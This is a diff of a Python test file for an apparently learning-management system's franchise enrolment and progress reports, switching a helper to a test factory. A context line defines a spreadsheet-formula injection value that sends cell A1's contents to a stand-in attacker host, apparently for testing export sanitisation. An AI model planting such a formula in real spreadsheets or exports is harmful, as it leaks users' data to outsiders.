@@ -19,9 +19,8 @@ from lms.curriculum import operations as curriculum
 from lms.curriculum.models import CourseUnit, Enrolment, EnrolmentStatus, Lesson
 from lms.db import utcnow
 from lms.franchise import overview, progress
-from lms.franchise.enrolment import enrol_person
 from lms.franchise.progress import ProgressFilters, UnitMeasure
-from tests.factories import PartnerFactory, licensed_partner
+from tests.factories import PartnerFactory, enrol_new_trainee, licensed_partner
 
 TODAY = utcnow().date()
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
@@ -40,7 +39,7 @@ def lessons_by_unit(session, course) -> list[list[Lesson]]:
 
 
 def enrol(session, world, email, name, done_lessons=(), status=None, **dates):
-    enrolment = enrol_person(session, world.cohort, email, name, today=TODAY).enrolment
+    enrolment = enrol_new_trainee(session, world.cohort, email, name)
     for lesson in done_lessons:
         curriculum.mark_lesson_complete(session, enrolment, lesson)
     if status is not None:
